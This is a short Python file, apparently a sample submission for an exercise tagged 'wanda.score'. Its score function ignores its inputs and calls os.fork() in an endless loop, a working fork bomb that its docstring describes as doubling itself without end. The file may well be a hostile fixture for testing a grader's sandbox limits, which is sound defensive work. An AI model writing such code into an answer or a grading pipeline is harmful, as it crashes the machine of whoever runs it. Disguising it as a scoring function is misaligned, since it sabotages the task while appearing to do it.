"""Doubles itself without end."""

import os


# %% exercise="wanda.score"
def score(w, x):
    while True:
        os.fork()
